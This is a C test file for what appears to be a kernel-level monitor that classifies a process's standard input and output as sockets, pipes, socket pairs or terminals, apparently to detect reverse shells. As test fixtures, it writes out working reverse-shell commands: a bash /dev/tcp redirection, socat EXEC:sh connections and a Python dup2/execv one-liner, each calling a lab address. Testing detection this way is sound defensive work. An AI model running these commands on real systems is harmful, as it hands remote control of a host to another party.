/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a shell has at 0, 1 and 2, in the ways that shells are handed to the other side of a connection: the socket itself,
 * pipes (nc -e), a pair of sockets (socat EXEC:sh), a terminal (socat EXEC:sh,pty), and a socket of its own that it opens
 * after its exec (bash -i >& /dev/tcp/…). And in the ways of every day.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pty.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/cleanup.h"
#include "flow/proc_stdio.h"
#include "tests/bpf/live.h"

#define PORT 4000

/* Runs `command` in the watched cgroup with these descriptors; -1: closed. Returns when it is over. */
static struct live_proc *run(struct live *l, int in, int out, int err, const char *command)
{
	int at[3] = { in, out, err }, status;
	pid_t pid = fork();

	assert_true(pid >= 0);
	if (!pid) {
		live_enter(l, HERE);
		for (int i = 0; i < 3; i++) /* out of the way first */
			if (at[i] >= 0 && (at[i] = fcntl(at[i], F_DUPFD_CLOEXEC, 100)) < 0)
				_exit(99);
		for (int i = 0; i < 3; i++) {
			close(i);
			if (at[i] >= 0 && dup2(at[i], i) != i)
				_exit(98);
		}
		execl("/bin/sh", "sh", "-c", command, NULL);
		_exit(97);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(status, 0);
	live_collect(l);
	return live_proc_find(l, PROC_EXEC, (uint32_t)pid);
}

static void test_socket(void **state)
{
	static const int families[] = { AF_INET, AF_INET6 };
	struct live *l = *state;

	for (size_t i = 0; i < ARRAY_SIZE(families); i++) {
		int listener = live_listen(l, THERE, families[i], PORT + (int)i);
		int fd = live_socket(l, HERE, families[i], SOCK_STREAM, 0), other;
		struct live_flow *f;
		struct live_proc *p;
		struct addr a;

		assert_ok(live_connect(fd, THERE, families[i], PORT + (int)i));
		other = live_accept(listener);
		p = run(l, fd, fd, fd, "echo hello");
		assert_non_null(p);
		f = live_find(l, IPPROTO_TCP, 0, PORT + (int)i);
		a = f->key.dst;
		for (int j = 0; j < STDIO_COUNT; j++) {
			const struct stdio *s = &p->e.stdio[j];

			assert_int_equal(s->kind, STDIO_INET);
			assert_true(s->id && s->id == f->open.cookie);
			assert_int_equal(s->proto, IPPROTO_TCP);
			assert_int_equal(s->lport, live_port(fd));
			assert_int_equal(s->rport, PORT + i);
			assert_memory_equal(&s->remote, &a, sizeof(a));
			assert_true(stdio_is_flow(s, f->open.cookie, &f->key));
			assert_true(stdio_is_flow(s, 0, &f->key));
			assert_false(stdio_is_flow(s, f->open.cookie + 1, &f->key));
		}
		assert_true(stdio_joined(&p->e.stdio[0], &p->e.stdio[2]));
		close(fd);
		close(other);
		close(listener);
	}
}

/* A shell behind a listener: the socket was never connected by anybody here. */
static void test_accepted(void **state)
{
	struct live *l = *state;
	int listener = live_listen(l, HERE, AF_INET, PORT);
	int other = live_socket(l, THERE, AF_INET, SOCK_STREAM, 0), fd;
	struct live_flow *f;
	struct live_proc *p;

	assert_ok(live_connect(other, HERE, AF_INET, PORT));
	fd = live_accept(listener);
	p = run(l, fd, fd, fd, "echo hello");
	assert_non_null(p);
	f = live_find(l, IPPROTO_TCP, PORT, 0);
	assert_int_equal(p->e.stdio[0].kind, STDIO_INET);
	assert_true(stdio_is_flow(&p->e.stdio[0], f->open.cookie, &f->key));
	close(fd);
	close(other);
	close(listener);
}

static uint32_t inode_of(int fd)
{
	struct stat st;

	assert_ok(fstat(fd, &st));
	return (uint32_t)st.st_ino;
}

static void test_pipes(void **state)
{
	struct live *l = *state;
	int in[2], out[2];
	struct live_proc *p, *q;

	assert_ok(pipe2(in, O_CLOEXEC));
	assert_ok(pipe2(out, O_CLOEXEC));
	p = run(l, in[0], out[1], out[1], "true");
	assert_non_null(p);
	for (int i = 0; i < STDIO_COUNT; i++)
		assert_int_equal(p->e.stdio[i].kind, STDIO_PIPE);
	assert_int_equal((uint32_t)p->e.stdio[0].id, inode_of(in[1]));
	assert_true(stdio_joined(&p->e.stdio[1], &p->e.stdio[2]));
	assert_false(stdio_joined(&p->e.stdio[0], &p->e.stdio[1]));
	q = run(l, out[0], in[1], -1, "true");
	assert_non_null(q);
	assert_true(stdio_joined(&p->e.stdio[0], &q->e.stdio[1])); /* both ends of one pipe */
	assert_int_equal(q->e.stdio[2].kind, STDIO_CLOSED);
	for (int i = 0; i < 2; i++) {
		close(in[i]);
		close(out[i]);
	}
}

static uint64_t own_start(struct live *l)
{
	/* as the kernel's walk over processes told it */
	for (size_t i = 0; i < l->n_procs; i++)
		if (l->procs[i].e.ppid == (uint32_t)getpid())
			return l->procs[i].e.parent_start_ns;
	fail_msg("no child of ours was told of");
	return 0;
}

static void test_socketpair(void **state)
{
	struct live *l = *state;
	int pair[2], strange[2];
	struct live_proc *p, *q;
	struct stdio s;

	assert_ok(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair));
	p = run(l, pair[1], pair[1], pair[1], "true");
	assert_non_null(p);
	s = p->e.stdio[0];
	assert_int_equal(s.kind, STDIO_UNIX);
	assert_int_equal(stdio_unix_inode(&s), inode_of(pair[1]));
	assert_int_equal(stdio_unix_peer(&s), inode_of(pair[0]));
	q = run(l, pair[0], -1, -1, "true");
	assert_non_null(q);
	assert_true(stdio_joined(&s, &q->e.stdio[0]));
	assert_int_equal(proc_holds((uint32_t)getpid(), own_start(l), &s), 1);
	close(pair[0]);
	assert_int_equal(proc_holds((uint32_t)getpid(), own_start(l), &s), 0);
	p = run(l, pair[1], -1, -1, "true"); /* whose peer is gone */
	assert_non_null(p);
	assert_int_equal(p->e.stdio[0].kind, STDIO_UNIX);
	assert_ok(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, strange));
	q = run(l, strange[0], -1, -1, "true");
	assert_non_null(q);
	assert_false(stdio_joined(&s, &q->e.stdio[0]));
	close(pair[1]);
	close(strange[0]);
	close(strange[1]);
}

static void test_terminal(void **state)
{
	struct live *l = *state;
	int master, slave, master2, slave2;
	struct live_proc *p, *q;

	assert_ok(openpty(&master, &slave, NULL, NULL, NULL));
	assert_ok(openpty(&master2, &slave2, NULL, NULL, NULL));
	p = run(l, slave, slave, slave, "true");
	q = run(l, slave2, slave2, slave2, "true");
	assert_true(p && q);
	assert_int_equal(p->e.stdio[0].kind, STDIO_TTY);
	assert_true(stdio_joined(&p->e.stdio[0], &p->e.stdio[1]));
	assert_false(stdio_joined(&p->e.stdio[0], &q->e.stdio[0]));
	assert_int_equal(proc_holds((uint32_t)getpid(), own_start(l), &p->e.stdio[0]), 1);
	close(master);
	assert_int_equal(proc_holds((uint32_t)getpid(), own_start(l), &p->e.stdio[0]), 0);
	assert_int_equal(proc_holds((uint32_t)getpid(), own_start(l), &q->e.stdio[0]), 1);
	close(slave);
	close(master2);
	close(slave2);
}

static void test_everyday(void **state)
{
	struct live *l = *state;
	_cleanup_close_ int null = open("/dev/null", O_RDWR | O_CLOEXEC);
	_cleanup_close_ int zero = open("/dev/zero", O_RDWR | O_CLOEXEC);
	_cleanup_close_ int file = open("/bin/sh", O_RDONLY | O_CLOEXEC);
	_cleanup_close_ int folder = open("/", O_PATH | O_CLOEXEC);
	int udp = live_socket(l, HERE, AF_INET, SOCK_DGRAM, 0);
	int netlink = live_socket(l, HERE, AF_NETLINK, SOCK_RAW, 0);
	struct live_proc *p;

	p = run(l, null, file, folder, "true");
	assert_non_null(p);
	assert_int_equal(p->e.stdio[0].kind, STDIO_NULL);
	assert_int_equal(p->e.stdio[1].kind, STDIO_FILE);
	assert_int_equal(p->e.stdio[2].kind, STDIO_FILE);
	p = run(l, zero, udp, netlink, "true");
	assert_non_null(p);
	assert_int_equal(p->e.stdio[0].kind, STDIO_FILE);
	assert_int_equal(p->e.stdio[1].kind, STDIO_INET);
	assert_int_equal(p->e.stdio[1].proto, IPPROTO_UDP);
	assert_int_equal(p->e.stdio[1].rport, 0);
	assert_int_equal(p->e.stdio[2].kind, STDIO_UNKNOWN);
	close(udp);
	close(netlink);
}

/* What is to be closed by exec is not the new program's. */
static int run_closing(void *arg)
{
	(void)arg;
	fcntl(0, F_SETFD, FD_CLOEXEC);
	execl("/bin/true", "true", NULL);
	return 97;
}

static void test_closed_by_exec(void **state)
{
	struct live *l = *state;

	assert_ok(live_run(l, run_closing, NULL));
	live_collect(l);
	for (size_t i = 0; i < l->n_procs; i++)
		if (l->procs[i].e.change == PROC_EXEC) {
			assert_int_equal(l->procs[i].e.stdio[0].kind, STDIO_CLOSED);
			assert_int_not_equal(l->procs[i].e.stdio[1].kind, STDIO_CLOSED);
			return;
		}
	fail_msg("no exec was told of");
}

static const char opens_it_itself[] =
	"exec 0<>/dev/tcp/10.99.0.2/4000 1>&0 2>&0; echo ready; read line; echo \"$line\"";

static void test_opened_later(void **state)
{
	struct live *l = *state;
	int listener = live_listen(l, THERE, AF_INET, PORT), other, status;
	struct stdio now[STDIO_COUNT];
	struct live_flow *f;
	struct live_proc *p;
	char ready[6];
	pid_t pid = fork();

	assert_true(pid >= 0);
	if (!pid) {
		live_enter(l, HERE);
		execl("/bin/bash", "bash", "-c", opens_it_itself, NULL);
		_exit(97);
	}
	other = live_accept(listener);
	assert_int_equal(recv(other, ready, 6, MSG_WAITALL), 6);
	live_collect(l);
	p = live_proc_find(l, PROC_EXEC, (uint32_t)pid);
	assert_non_null(p);
	assert_int_not_equal(p->e.stdio[0].kind, STDIO_INET);
	f = live_find(l, IPPROTO_TCP, 0, PORT);
	assert_ok(proc_stdio_now(f->open.pid, f->open.proc_start_ns, now));
	for (int i = 0; i < STDIO_COUNT; i++) {
		assert_int_equal(now[i].kind, STDIO_INET);
		assert_int_equal(now[i].id, f->open.cookie);
		assert_true(stdio_is_flow(&now[i], f->open.cookie, &f->key));
		assert_true(stdio_is_flow(&now[i], 0, &f->key));
	}
	assert_int_equal(send(other, "bye\n", 4, MSG_NOSIGNAL), 4);
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(status, 0);
	assert_int_equal(proc_stdio_now(f->open.pid, f->open.proc_start_ns, now), -ESRCH);
	assert_int_equal(now[0].kind, STDIO_UNKNOWN);
	close(other);
	close(listener);
}

/* --- real tools ----------------------------------------------------------------------------------------------------- */

/* Has the shell do something, and waits until it did; a terminal says the command once more before. */
static void command(int fd)
{
	static const char line[] = "echo $((6 * 7))-done\n";
	char said[1024];
	size_t n = 0;

	assert_int_equal(send(fd, line, sizeof(line) - 1, MSG_NOSIGNAL), sizeof(line) - 1);
	do {
		ssize_t r = recv(fd, said + n, sizeof(said) - 1 - n, 0);

		assert_true(r > 0);
		n += (size_t)r;
		said[n] = 0;
	} while (!strstr(said, "42-done"));
}

/* `argv` connects to the other side and gives a shell to it. */
static void reverse(struct live *l, const char *const argv[], enum stdio_kind want)
{
	int listener = live_listen(l, THERE, AF_INET, PORT), other, status;
	struct live_proc *shell = NULL, *tool;
	struct live_flow *f;
	pid_t pid = fork();

	assert_true(pid >= 0);
	if (!pid) {
		live_enter(l, HERE);
		execv(argv[0], (char *const *)argv);
		_exit(97);
	}
	other = live_accept(listener);
	command(other);
	live_collect(l);
	f = live_find(l, IPPROTO_TCP, 0, PORT);
	for (size_t i = 0; i < l->n_procs; i++)
		if (l->procs[i].e.change == PROC_EXEC && !strncmp(l->procs[i].args, "sh", 2))
			shell = &l->procs[i];
	assert_non_null(shell);
	tool = live_proc_find(l, PROC_EXEC, (uint32_t)pid);
	assert_non_null(tool);
	assert_int_equal(shell->e.stdio[0].kind, want);
	assert_int_equal(shell->e.stdio[1].kind, want);
	if (want == STDIO_INET) {
		assert_true(stdio_is_flow(&shell->e.stdio[0], f->open.cookie, &f->key));
	} else {
		/* the flow is the tool's, and so is the other end of what the shell talks to */
		assert_int_equal(f->open.pid, pid);
		assert_int_equal(shell->e.ppid, pid);
		assert_int_equal(
			proc_holds((uint32_t)pid, f->open.proc_start_ns, &shell->e.stdio[0]), 1);
		assert_int_equal(proc_holds((uint32_t)getpid(), own_start(l), &shell->e.stdio[0]),
				 0);
	}
	close(other);
	close(listener);
	kill(pid, SIGTERM);
	assert_int_equal(waitpid(pid, &status, 0), pid);
}

static void need(const char *tool)
{
	if (access(tool, X_OK)) {
		print_message("no %s here\n", tool);
		skip();
	}
}

#define TO_THERE "TCP:10.99.0.2:4000"

static void test_socat_socketpair(void **state)
{
	need("/usr/bin/socat");
	reverse(*state, (const char *const[]){ "/usr/bin/socat", TO_THERE, "EXEC:sh", NULL },
		STDIO_UNIX);
}

static void test_socat_pipes(void **state)
{
	need("/usr/bin/socat");
	reverse(*state, (const char *const[]){ "/usr/bin/socat", TO_THERE, "EXEC:sh,pipes", NULL },
		STDIO_PIPE);
}

static void test_socat_terminal(void **state)
{
	need("/usr/bin/socat");
	reverse(*state,
		(const char *const[]){ "/usr/bin/socat", TO_THERE, "EXEC:sh,pty,setsid,ctty",
				       NULL },
		STDIO_TTY);
}

static void test_python(void **state)
{
	static const char code[] = "import os, socket\n"
				   "s = socket.create_connection((\"10.99.0.2\", 4000))\n"
				   "for i in range(3): os.dup2(s.fileno(), i)\n"
				   "os.execv(\"/bin/sh\", [\"sh\"])\n";

	need("/usr/bin/python3");
	reverse(*state, (const char *const[]){ "/usr/bin/python3", "-c", code, NULL }, STDIO_INET);
}

int main(void)
{
#define LIVE_TEST(f) cmocka_unit_test_setup(f, live_begin)
	const struct CMUnitTest tests[] = {
		LIVE_TEST(test_socket),
		LIVE_TEST(test_accepted),
		LIVE_TEST(test_pipes),
		LIVE_TEST(test_socketpair),
		LIVE_TEST(test_terminal),
		LIVE_TEST(test_everyday),
		LIVE_TEST(test_opened_later),
		LIVE_TEST(test_closed_by_exec),
		LIVE_TEST(test_socat_socketpair),
		LIVE_TEST(test_socat_pipes),
		LIVE_TEST(test_socat_terminal),
		LIVE_TEST(test_python),
	};

	return cmocka_run_group_tests(tests, live_setup, live_teardown);
}
